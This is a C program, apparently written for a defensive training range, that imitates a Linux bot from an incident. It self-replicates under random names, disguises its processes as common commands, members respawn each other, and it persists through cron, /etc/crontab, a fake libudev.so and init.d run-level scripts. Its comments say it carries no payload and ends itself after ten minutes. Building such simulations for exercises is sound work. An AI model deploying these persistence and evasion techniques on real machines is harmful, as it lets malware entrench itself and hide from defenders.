// A stand-in of incident 4's bot, made for the range: a family of processes that copy themselves under random names with changing
// ends, wear the names of other commands, put each other and their files back within milliseconds, and start again by cron and init.
// It attacks nobody, carries nothing, burns half of one processor, and ends ten minutes after it was first started; /run/ended-by-itself
// says so, so that nobody takes it for ended by Davy.
//
// replicator [FAMILY [MILLISECONDS [HOST]]]   how many, how often they look, whom one of them greets on port 80
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { KEY = 0xDA07, MOST = 64, LIFE = 600 };

struct table {
    time_t end;
    int count, pause;
    char host[32];
    struct {
        _Atomic int pid;
        char path[64];
    } member[MOST];
};

static struct table *family;
static const char library[] = "/usr/lib/libudev.so";

static time_t now(void) {
    struct timespec t;
    clock_gettime(CLOCK_BOOTTIME, &t);
    return t.tv_sec;
}

static void letters(char *to) {
    unsigned char raw[10];
    int fd = open("/dev/urandom", O_RDONLY);
    if (fd < 0 || read(fd, raw, sizeof raw) != sizeof raw) exit(1);
    close(fd);
    for (int i = 0; i < 10; i++) to[i] = 'a' + raw[i] % 26;
    to[10] = 0;
}

// Who cannot copy ends, and starts no other: so the family dies where its writes are denied.
static void copy(const char *to) {
    char buffer[65536], tail[11];
    ssize_t n;
    int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_EXCL, 0755);
    if (out < 0 && errno == EEXIST) {
        close(in);
        return;
    }
    if (in < 0 || out < 0) exit(1);
    while ((n = read(in, buffer, sizeof buffer)) > 0)
        if (write(out, buffer, n) != n) exit(1);
    letters(tail);
    if (write(out, tail, 11) != 11) exit(1);
    close(in);
    close(out);
}

static char *disguise(void) {
    static char *names[] = {"route -n", "grep \"A\"", "echo \"find\"", "ifconfig eth0", "ps -ef", "cat resolv.conf", "netstat -an"};
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return names[t.tv_nsec / 1000 % (sizeof names / sizeof *names)];
}

// Starts a new one in this place, from a copy with a new name; the old copy goes.
static void replace(int place, int dead) {
    int mine = getpid() * -1;
    if (!atomic_compare_exchange_strong(&family->member[place].pid, &dead, mine)) return;
    char name[11], path[64], *old = family->member[place].path;
    letters(name);
    snprintf(path, sizeof path, "%s/%s", name[0] < 'n' ? "/usr/bin" : "/tmp", name);
    copy(path);
    if (*old) unlink(old);
    strcpy(old, path);
    int child = fork();
    if (child == 0) {
        char number[8];
        setsid();
        snprintf(number, sizeof number, "%d", place);
        setenv("PLACE", number, 1);
        char *arguments[] = {disguise(), 0};
        execv(path, arguments);
        _exit(1);
    }
    atomic_store(&family->member[place].pid, child);
}

static int dead(int pid) {
    if (pid < 0) pid = -pid; // being replaced by this one
    return pid == 0 || (kill(pid, 0) != 0 && errno == ESRCH);
}

static void text(const char *path, const char *content, int mode) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0) return;
    if (write(fd, content, strlen(content)) < 0) exit(1);
    fchmod(fd, mode);
    close(fd);
}

static void install(void) {
    char name[11], path[96], script[1024];
    copy(library);
    text("/etc/cron.hourly/gcc.sh",
         "#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\n"
         "for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\n"
         "cp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n",
         0755);
    FILE *table = fopen("/etc/crontab", "a");
    if (table) {
        fputs("*/3 * * * * root /etc/cron.hourly/gcc.sh\n", table);
        fclose(table);
    }
    letters(name);
    snprintf(path, sizeof path, "/usr/bin/%s", name);
    copy(path);
    snprintf(script, sizeof script,
             "#!/bin/sh\n# chkconfig: 12345 90 90\n# description: %s\n### BEGIN INIT INFO\n# Provides:\t\t%s\n# Required-Start:\n"
             "# Required-Stop:\n# Default-Start:\t1 2 3 4 5\n# Default-Stop:\n# Short-Description:\t%s\n### END INIT INFO\n"
             "case $1 in\nstart)\n\t%s\n\t;;\nstop)\n\t;;\n*)\n\t%s\n\t;;\nesac\n",
             name, name, name, path, path);
    snprintf(path, sizeof path, "/etc/init.d/%s", name);
    text(path, script, 0755);
    for (int level = 1; level <= 5; level++) {
        char link[96];
        snprintf(link, sizeof link, "/etc/rc%d.d/S90%s", level, name);
        if (symlink(path, link) != 0) continue;
    }
}

static void greet(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
    if (inet_pton(AF_INET, family->host, &to.sin_addr) != 1) return;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    connect(s, (struct sockaddr *)&to, sizeof to);
    sleep(2);
    close(s);
}

// A child that lives for a second under another command's name.
static void flicker(void) {
    if (fork() != 0) return;
    char *arguments[] = {disguise(), 0};
    setenv("PLACE", "-1", 1);
    execv("/proc/self/exe", arguments);
    _exit(1);
}

// As long as the pause that follows: half of one processor.
static void burn(int milliseconds) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    long end = t.tv_sec * 1000 + t.tv_nsec / 1000000 + milliseconds;
    do clock_gettime(CLOCK_MONOTONIC, &t);
    while (t.tv_sec * 1000 + t.tv_nsec / 1000000 < end);
}

static void live(int place) {
    struct timespec pause = {family->pause / 1000, family->pause % 1000 * 1000000L};
    time_t born = now(), shown = born;
    while (now() < family->end) {
        for (int i = 0; i < family->count; i++) {
            int pid = atomic_load(&family->member[i].pid);
            if (i != place && dead(pid)) replace(i, pid);
        }
        if (access(library, F_OK) != 0) copy(library);
        if (place == 0) {
            burn(family->pause);
            if (now() > shown + 10) {
                shown = now();
                flicker();
                if (*family->host && fork() == 0) {
                    greet();
                    _exit(0);
                }
            }
        }
        // From time to time each gives its place to one with another name.
        if (now() > born + 45 + place * 7) {
            replace(place, getpid());
            return;
        }
        nanosleep(&pause, 0);
    }
    close(open("/run/ended-by-itself", O_WRONLY | O_CREAT, 0644));
}

int main(int argc, char **argv) {
    signal(SIGCHLD, SIG_IGN);
    const char *place = getenv("PLACE");
    if (place && atoi(place) < 0) return sleep(1), 0;
    int id = shmget(KEY, sizeof *family, 0600);
    int first = id < 0;
    if (first) id = shmget(KEY, sizeof *family, IPC_CREAT | 0600);
    if (id < 0) return 1;
    family = shmat(id, 0, 0);
    if (family == (void *)-1) return 1;
    if (first) {
        if (daemon(0, 0) != 0) return 1;
        family->count = argc > 1 ? atoi(argv[1]) : 6;
        family->pause = argc > 2 ? atoi(argv[2]) : 20;
        if (family->count < 1 || family->count > MOST || family->pause < 1) return 2;
        if (argc > 3) snprintf(family->host, sizeof family->host, "%s", argv[3]);
        family->end = now() + LIFE;
        install();
    }
    if (place) {
        int self = atoi(place);
        if (self >= family->count) return 2;
        live(self);
        return 0;
    }
    // Cron and init start it where all are gone.
    for (int i = 0; i < family->count && now() < family->end; i++) {
        int pid = atomic_load(&family->member[i].pid);
        if (dead(pid)) replace(i, pid);
    }
    return 0;
}
